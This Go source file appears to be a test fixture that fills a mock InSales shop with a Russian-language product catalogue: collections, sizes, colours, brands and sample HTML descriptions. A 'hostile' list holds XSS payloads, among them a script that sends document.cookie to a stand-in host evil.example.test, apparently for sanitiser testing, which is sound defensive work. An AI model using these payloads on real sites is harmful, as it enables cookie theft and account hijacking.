package insalestest

import (
	"fmt"
	"strings"
	"time"
)

// A branch is a collection of the second level of a catalogue with what is sold
// in its three collections.
type branch struct {
	section, title, noun string
	leaves               [3]string
	sizes                []string // nil = these come in one variant, or by colour
	weighed              bool
}

// branches are the tree of a catalogue: the first level groups neighbours.
func branches() []branch {
	clothes, shoes := []string{"42", "44", "46", "48", "50", "52"}, []string{"36", "37", "38", "39", "40", "41", "42"}
	return []branch{
		{section: "Одежда", title: "Футболки", noun: "Футболка", leaves: [3]string{"С принтом", "Однотонные", "Поло"},
			sizes: clothes},
		{section: "Одежда", title: "Джинсы", noun: "Джинсы", leaves: [3]string{"Прямые", "Зауженные", "Шорты"},
			sizes: clothes},
		{section: "Одежда", title: "Верхняя одежда", noun: "Куртка", leaves: [3]string{"Куртки", "Пальто", "Жилеты"},
			sizes: clothes},
		{section: "Обувь", title: "Кроссовки", noun: "Кроссовки",
			leaves: [3]string{"Для бега", "Для города", "Для зала"}, sizes: shoes},
		{section: "Обувь", title: "Ботинки", noun: "Ботинки", leaves: [3]string{"Зимние", "Демисезонные", "Рабочие"},
			sizes: shoes},
		{section: "Обувь", title: "Домашняя обувь", noun: "Тапочки",
			leaves: [3]string{"Из войлока", "Из овчины", "Детские"}, sizes: shoes},
		{section: "Дом", title: "Посуда", noun: "Кружка", leaves: [3]string{"Кружки", "Тарелки", "Наборы «2 + 1»"}},
		{section: "Дом", title: "Текстиль", noun: "Плед", leaves: [3]string{"Пледы", "Подушки", "Полотенца & халаты"}},
		{section: "Дом", title: "Свет", noun: "Лампа", leaves: [3]string{"Настольные", "Подвесные", "Гирлянды"}},
		{section: "Продукты", title: "Кофе", noun: "Кофе", leaves: [3]string{"Зерно", "Молотый", "Капсулы"},
			weighed: true},
		{section: "Продукты", title: "Чай", noun: "Чай", leaves: [3]string{"Чёрный", "Зелёный", "Травяной"},
			weighed: true},
		{section: "Продукты", title: "Сладости", noun: "Мармелад", leaves: [3]string{"Мармелад", "Пастила", "Шоколад"},
			weighed: true},
		{section: "Электроника", title: "Кабели", noun: "Кабель", leaves: [3]string{"USB-C", "HDMI", "Аудио"}},
		{section: "Электроника", title: "Зарядки", noun: "Зарядка",
			leaves: [3]string{"Сетевые", "Автомобильные", "Беспроводные"}},
		{section: "Электроника", title: "Колонки", noun: "Колонка",
			leaves: [3]string{"Переносные", "Полочные", "Умные"}},
	}
}

// words are what products of a catalogue are made of.
type words struct {
	branches                   []branch
	colours, brands, materials []string
	countries, notes, html     []string
	hostile                    []string
}

func newWords() words {
	w := words{
		branches:  branches(),
		colours:   []string{"черный", "белый", "синий", "зелёный", "красный", `"серебро"`},
		materials: []string{"Хлопок", "Лён", "Шерсть 50%", "Нержавеющая сталь", "Дерево", "Пластик", "Керамика"},
		countries: []string{"Россия", "Беларусь", "Китай", "Турция", "Узбекистан"},
		notes: []string{
			"Хит продаж", "<b>Новинка</b> сезона", "Подарок к заказу от 3 000 ₽", "Последний размер",
			"Цена снижена \\ ненадолго",
		},
		html: []string{
			"<p>Состав: <b>хлопок</b>&nbsp;100&#37;. Стирать при 30&deg;.</p>",
			"<ul><li>Гарантия 12 месяцев</li>\n<li>Доставка за 1&ndash;3 дня</li></ul>",
			"<h2>О товаре</h2><p>Делаем в&nbsp;Иванове с&nbsp;1998 года. «Самый тёплый» — пишут покупатели.</p>",
			`<table class="sizes"><tr><td>46</td><td>96&nbsp;см</td></tr>` +
				`<tr><td>48</td><td>100&nbsp;см</td></tr></table>`,
			`<p style="color: #333;">Подробнее в <a href="https://shop-test.myinsales.ru/page/delivery" ` +
				`target="_blank">условиях доставки</a>.</p>`,
			"<p>Не закрытый абзац<br>и вторая строка\t<i>курсивом",
		},
		hostile: []string{
			`<script>document.location='https://evil.example.test/?c='+document.cookie</script>`,
			`<img src="x" onerror="alert(1)">`,
			`<a href="javascript:alert(1)">скидка</a>`,
			`<iframe src="https://evil.example.test/"></iframe>`,
			`<div onclick="alert(1)" style="position:fixed">нажмите</div>`,
			"<!-- <script>alert(1)</script> --><svg/onload=alert(1)>",
		},
	}
	names := []string{"Север", "Волна", "Ладога", "Полюс", "Берег", "Сосна", "Вектор", "Искра", "Клевер", "Маяк"}
	for i, name := range names {
		w.brands = append(w.brands, name, fmt.Sprintf("%s-%d", strings.ToUpper(name), i+1))
	}
	return w
}

// The names of what products of a catalogue have.
const (
	optionSize       = "Размер"
	optionColour     = "Цвет"
	propertyBrand    = "Производитель"
	propertyMaterial = "Материал"
	propertyCountry  = "Страна"
)

// The collections of a catalogue, and the categories.
const (
	firstCatalogCollection int64 = 27_900_001
	rootCategory           int64 = 32_380_146
)

// stock gives the shop the products of a catalogue and the dictionaries they
// need.
func (s *Shop) stock(c Catalog) {
	def(&c.Until, s.now().Truncate(time.Second))
	m := newMaker(c)
	id, at := firstCatalogCollection, c.Until.Add(-catalogSpan)
	add := func(title string, parent int64, hidden bool) int64 {
		defer func() { id++ }()
		s.putCollection(Collection{ID: id, ParentID: parent, Title: title, Hidden: hidden}, at)
		return id
	}
	var section int64
	for i, b := range m.words.branches {
		if i == 0 || b.section != m.words.branches[i-1].section {
			section = add(b.section, 0, false)
		}
		parent := add(b.title, section, false)
		for j, leaf := range b.leaves {
			m.leaves = append(m.leaves, add(leaf, parent, i == 7 && j == 2))
		}
	}
	for i, b := range m.words.branches {
		m.categories = append(m.categories, rootCategory+int64(i)+1)
		s.categories.put(category{ID: rootCategory + int64(i) + 1, ParentID: rootCategory, Title: b.title}, at)
		for _, size := range b.sizes {
			s.options.value(optionSize, size)
		}
	}
	for _, colour := range m.words.colours {
		s.options.value(optionColour, colour)
	}
	for i, values := range [][]string{m.words.brands, m.words.materials, m.words.countries} {
		for _, value := range values {
			s.properties.value([]string{propertyBrand, propertyMaterial, propertyCountry}[i], value)
		}
	}
	s.warehouses, s.products.maker = []string{"Основной склад", "Магазин на Ленина"}, m
}
